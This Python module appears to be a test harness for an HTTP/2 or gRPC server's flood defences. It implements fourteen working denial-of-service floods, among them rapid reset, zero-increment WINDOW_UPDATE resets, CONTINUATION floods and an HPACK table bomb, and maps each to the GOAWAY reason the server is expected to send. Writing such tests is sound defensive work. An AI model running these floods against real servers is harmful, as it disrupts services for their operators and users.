"""What a hostile network sends, one function each: (name, bytes to send in turns, how often).

FLOODS[name](peer) sends until it is cut or done, and answers how many frames it got out."""
from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, call, field, frame, headers_of, text)

CANCEL = (8).to_bytes(4, "big")
ZERO_WINDOW = b"\0\x04\0\0\0\0"  # SETTINGS_INITIAL_WINDOW_SIZE = 0


def _repeat(peer, piece, count, at_once=100):
    sent = 0
    while sent < count and peer.send(piece * at_once):
        sent += at_once
    return sent


def headers(peer, count=2000):
    """A header block of `count` x 16 KiB."""
    filler = b"".join(field(b"x-%d" % i, b"y" * 100) for i in range(140))[:16000]
    peer.send(frame(HEADERS, END_STREAM, 1, headers_of()))
    return _repeat(peer, frame(CONTINUATION, 0, 1, filler), count, 1)


def continuations(peer, count=200000):
    peer.send(frame(HEADERS, END_STREAM, 1, headers_of()))
    return _repeat(peer, frame(CONTINUATION, 0, 1), count)


def rapid_reset(peer, count=100000):
    sent = 0
    for stream in range(1, 2 * count, 200):
        data = b"".join(call(number) + frame(RST_STREAM, 0, number, CANCEL)
                        for number in range(stream, min(stream + 200, 2 * count), 2))
        if not peer.send(data):
            break
        sent += 100
    return sent


def made_you_reset(peer, count=20000):
    """The server is made to reset: a window of a stream grows by nothing (RFC 9113, 6.9)."""
    sent = 0
    for stream in range(1, 2 * count, 200):
        data = b"".join(call(number) + frame(WINDOW_UPDATE, 0, number, bytes(4))
                        for number in range(stream, stream + 200, 2))
        if not peer.send(data):
            break
        sent += 100
    return sent


def pings(peer, count=200000):
    return _repeat(peer, frame(PING, 0, 0, bytes(8)), count)


def ping_answers(peer, count=200000):
    return _repeat(peer, frame(PING, ACK, 0, bytes(8)), count)


def settings(peer, count=200000):
    return _repeat(peer, frame(SETTINGS), count)


def priorities(peer, count=200000):
    return _repeat(peer, frame(PRIORITY, 0, 1, bytes(4) + b"\1"), count)


def empty_data(peer, count=200000):
    peer.send(frame(HEADERS, END_HEADERS, 1, headers_of()))
    return _repeat(peer, frame(DATA, 0, 1), count)


def windows(peer, count=200000):
    return _repeat(peer, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), count)


def half_requests(peer, count=2000):
    """Requests that begin and never end."""
    data = b"".join(frame(HEADERS, END_HEADERS, stream, headers_of())
                    for stream in range(1, 2 * count, 2))
    peer.send(data)
    return count


def hpack_bomb(peer, count=60):
    """One entry of 4 KB in the table, named thousands of times in 16 KB, on stream after stream."""
    rest = 3900 - 127  # the length of the value, an integer of HPACK with 7 bits in its first byte
    entry = b"\x40" + text(b"x-bomb") + bytes([127, rest & 0x7F | 0x80, rest >> 7]) + b"z" * 3900
    peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, headers_of() + entry))
    sent = 0
    for stream in range(3, 2 * count, 2):
        block = headers_of() + b"\xbe" * 15000  # 62: the newest entry of the dynamic table
        if not peer.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block)):
            break
        sent += 1
    return sent


def large_headers(peer, count=128):
    """Header blocks of what the door lets through, on as many streams as may be open."""
    block = headers_of() + b"".join(field(b"x-%03d" % number, b"y" * 100) for number in range(140))
    data = b"".join(frame(HEADERS, END_HEADERS, stream, block)
                    for stream in range(1, 2 * count, 2))
    peer.send(data)
    return count


def one_byte_data(peer, count=120000):
    """A message that comes byte by byte, a frame each."""
    peer.send(frame(HEADERS, END_HEADERS, 1, headers_of()))
    peer.send(frame(DATA, 0, 1, b"\0\0\1\xe0\0"))
    return _repeat(peer, frame(DATA, 0, 1, b"x"), count)


FLOODS = {flood.__name__: flood for flood in (
    headers, continuations, rapid_reset, made_you_reset, pings, ping_answers, settings, priorities,
    empty_data, windows, half_requests,
    hpack_bomb, large_headers, one_byte_data)}
# What GOAWAY says, where the door cuts; gRPC itself cuts some before it.
SAID = {"headers": "headers", "continuations": "headers", "rapid_reset": "resets",
        "made_you_reset": "resets", "pings": "pings", "ping_answers": "pings",
        "settings": "settings", "priorities": "empty_frames", "empty_data": "empty_frames",
        "windows": "windows", "half_requests": "streams", "one_byte_data": "empty_frames"}
# These are refused call by call; the connection may stay.
TAKEN = {"large_headers"}
